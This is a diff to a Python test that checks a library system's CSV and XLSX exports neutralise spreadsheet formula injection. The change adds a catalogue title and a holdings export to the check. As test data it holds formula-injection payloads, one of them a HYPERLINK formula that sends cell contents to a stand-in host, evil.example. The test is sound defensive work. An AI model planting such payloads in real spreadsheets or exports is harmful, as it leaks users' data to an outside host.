@@ -29,7 +29,7 @@ from clb.network.models import Branch, Municipality, Organisation
 from clb.services import services as registration
 from tests.cockpit.helpers import record_many
 from tests.costmodel.conftest import towns  # noqa: F401  (a fixture)
-from tests.factories import T0, make_item, make_patron
+from tests.factories import T0, make_item, make_patron, make_record
 
 SRC = Path(clb.__file__).parent
 ORG_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
@@ -37,8 +37,9 @@ BRANCH_NAME = "+SUM(1,2)"
 PLACE_NAME = "-2+3 Dorp"
 SCENARIO_NAME = "@Scenario"
 TAB_NAME = "\t=1+1"
+TITLE = "-1+1 Titel"  # a catalogue title, as a cataloguer typed it
 # No export lists branch names or a scenario's own name; they are renamed all the same.
-POISONS = (ORG_NAME, PLACE_NAME, TAB_NAME, "@SOM(1;2)")
+POISONS = (ORG_NAME, PLACE_NAME, TAB_NAME, "@SOM(1;2)", TITLE)
 WRITERS = re.compile(r"\bexports\.(write_csv|csv_text|xlsx_append|xlsx_cell)\(")
 
 
@@ -211,6 +212,13 @@ def test_every_export_entry_point_neutralises_formulas(poisoned, writers, tmp_pa
         command("costmodel", fmt, "--municipality", "GM9001", "--format", fmt)
     command("wsob_export", "csv", "--organisation", net.org_a.code, "--year", "2026")
     command("accessibility", "csv")
+    Organisation.objects.filter(pk=net.org_a.pk).update(isil="NL-0344UB")
+    make_item(net.a1, make_record(TITLE), barcode="5000000000099")
+    feed = tmp_path / "feed"
+    call_command("export_holdings", "--format", "csv", "--output", str(feed),
+                 stdout=io.StringIO())  # fmt: skip
+    (holdings,) = feed.glob("NL-0344UB_*.csv")
+    outputs["clb export_holdings csv"] = (holdings.read_bytes(), "csv")
     records = BibRecord.objects.count()
     marc = tmp_path / "=1+1.mrc"  # a file name is text people choose too
     marc.write_bytes(b"00026nam  2200025   4500\x1e\x1d")  # a record that fails, with a reason
